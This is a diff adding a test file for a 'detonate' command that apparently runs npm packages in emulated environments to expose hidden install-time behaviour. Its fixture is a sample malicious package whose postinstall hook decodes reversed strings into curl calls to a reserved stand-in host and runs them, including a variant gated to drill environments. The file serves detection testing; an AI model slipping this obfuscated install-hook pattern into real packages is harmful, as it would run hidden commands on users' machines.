@@ -1,0 +1,143 @@
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+
+import { describe, expect, onTestFinished, test } from "vitest";
+
+import { createFakeTerminal } from "../test/fake-environment.ts";
+import type { FakeResult } from "../test/fake-environment.ts";
+import { promisedFields } from "../test/json-form.ts";
+
+/** Inert: outside the emulator nothing runs it, and the host is reserved. */
+const setup = `
+const { exec } = require("child_process");
+const hide = (text) => text.split("").reverse().join("");
+const command = process.platform === "win32" ? hide("ten.2x/dilavni.rotcelloc//:ptth lruc") : hide("ten.1x/dilavni.rotcelloc//:ptth lruc");
+exec(command);
+require("fs").writeFileSync("done.txt", "done");
+`;
+
+async function detonate(files: Readonly<Record<string, string>>, ...flags: string[]): Promise<FakeResult> {
+  const folder = await mkdtemp(join(tmpdir(), "lockkeeper-detonate-"));
+  onTestFinished(async () => await rm(folder, { recursive: true, force: true }));
+  for (const [name, content] of Object.entries(files)) {
+    await mkdir(join(folder, "lib"), { recursive: true });
+    await writeFile(join(folder, name), content);
+  }
+  const { run } = await createFakeTerminal();
+  return await run("detonate", `${folder}/`, ...flags);
+}
+
+const hiding = {
+  "package.json": JSON.stringify({
+    name: "lib",
+    version: "1.0.0",
+    scripts: { postinstall: "node setup.js" },
+  }),
+  "setup.js": setup,
+};
+
+describe("detonate", () => {
+  test("detonate shows what was hidden, with what differs between machines first", async () => {
+    const { code, out } = await detonate(hiding, "--trigger", "install");
+
+    const differs = out.indexOf("What differs");
+    const common = out.indexOf("In every world");
+    expect(code).toBe(1);
+    expect(out).toContain("install · postinstall: node setup.js");
+    expect(differs).toBeGreaterThan(0);
+    expect(common).toBeGreaterThan(differs);
+    expect(out.slice(differs, common)).toContain("curl http://collector.invalid/x1.net");
+    expect(out.slice(differs, common)).toContain("curl http://collector.invalid/x2.net");
+    expect(out.slice(common)).toContain("fs.writeFile");
+  });
+
+  test("detonate --json prints the line of the contract", async () => {
+    const { lines } = await detonate(hiding, "--trigger", "install", "--json");
+
+    const [line = {}] = lines;
+    expect(Object.keys(line).toSorted()).toEqual(
+      promisedFields("detonate", "subject, in the order of the command line"),
+    );
+    expect(line["worlds"]).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          platform: "win32",
+          ended: "rest",
+          observations: expect.arrayContaining([
+            expect.objectContaining({ kind: "process", decoded: true, location: expect.anything() }),
+          ]) as unknown,
+        }),
+      ]),
+    );
+    expect(line["findings"]).toEqual(
+      expect.arrayContaining([expect.objectContaining({ id: "hidden-command", strength: "strong" })]),
+    );
+  });
+
+  test("detonate answers the same twice, but for the time it took", async () => {
+    const strip = ({ lines }: FakeResult): unknown =>
+      lines.map((line) => ({ ...line, spec: "", durationMs: 0 }));
+
+    const [first, second] = [await detonate(hiding, "--json"), await detonate(hiding, "--json")];
+
+    expect(strip(first)).toEqual(strip(second));
+  });
+
+  test("detonate finds nothing in a package that only prints", async () => {
+    const { code, out } = await detonate({
+      "package.json": JSON.stringify({ name: "lib", version: "1.0.0", main: "index.js" }),
+      "index.js": 'console.log("thank you"); module.exports = (a, b) => a + b;',
+    });
+
+    expect(code).toBe(0);
+    expect(out).toContain("nothing that speaks against it");
+  });
+
+  test("detonate says when nothing makes code of a package run", async () => {
+    const { code, out } = await detonate(
+      { "package.json": JSON.stringify({ name: "lib", version: "1.0.0" }) },
+      "--trigger",
+      "install",
+    );
+
+    expect(code).toBe(0);
+    expect(out).toContain("nothing makes code of it run");
+  });
+
+  test.each([
+    ["a world that there is not", ["--world", "amiga-laptop"], 2],
+    ["a trigger that there is not", ["--trigger", "wish"], 2],
+  ])("detonate refuses %s", async (_what, flags, code) => {
+    const result = await detonate(hiding, ...flags);
+
+    expect(result.code).toBe(code);
+    expect(result.err).toContain("CLI_USAGE");
+  });
+
+  test("detonate says of what is no package that it could not be run", async () => {
+    const { run } = await createFakeTerminal();
+
+    const { code, lines } = await run("detonate", "/nowhere/at-all.tgz", "--json");
+
+    expect(code).toBe(3);
+    expect(lines[0]).toMatchObject({ verdict: "unknown", error: { code: "INSPECT_UNREADABLE_FILE" } });
+  });
+
+  test("detonate lets the drill's packages go on in the drill's worlds alone", async () => {
+    const guarded = {
+      ...hiding,
+      "setup.js": `const { existsSync } = require("fs");
+const folder = process.env.LOCKKEEPER_DRILL_GUARD;
+if (folder && folder === require("os").homedir() && existsSync(require("path").join(folder, "lockkeeper-drill-guard"))) {
+${setup}}`,
+    };
+
+    const plain = await detonate(guarded, "--world", "linux-laptop");
+    const drill = await detonate(guarded, "--world", "drill-linux-laptop", "--world", "drill-win32-laptop");
+
+    expect(plain.out).not.toContain("collector.invalid");
+    expect(drill.out).toContain("curl http://collector.invalid/x1.net");
+    expect(drill.out).toContain("curl http://collector.invalid/x2.net");
+  });
+});
